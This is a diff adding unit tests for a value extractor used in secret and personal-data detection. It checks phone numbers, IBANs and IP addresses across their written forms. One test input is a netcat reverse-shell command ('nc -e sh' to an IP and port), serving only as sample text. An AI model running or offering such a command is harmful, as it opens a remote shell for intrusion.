@@ -84,3 +84,22 @@ describe('token formats added after the red-team review', () => {
     expect(containsSecret('Bearer tokens expire after an hour')).toBe(false);
   });
 });
+
+describe('exact values in the forms people write them', () => {
+  it('finds dotted and bracketed phone numbers, spaced IBANs and IPv4 addresses', () => {
+    const same = (a: string, b: string) =>
+      expect(
+        [...extractValues(a)].some((value) => extractValues(b).has(value)),
+        `${a} | ${b}`,
+      ).toBe(true);
+    same('call 415.555.0134 today', '4155550134');
+    same('call (415) 555-0134 today', '415-555-0134');
+    same('IBAN DE89 3704 0044 0532 0130 00', 'DE89370400440532013000');
+    same('then run nc -e sh 10.1.1.1 4444', 'nc 10.1.1.1');
+  });
+  it('still leaves dates and decimal amounts alone', () => {
+    for (const text of ['on 12.06.2025', 'on 2025/06/12', 'pay 1234.56 EUR', 'version 1.2.3']) {
+      expect([...extractValues(text)], text).toEqual([]);
+    }
+  });
+});
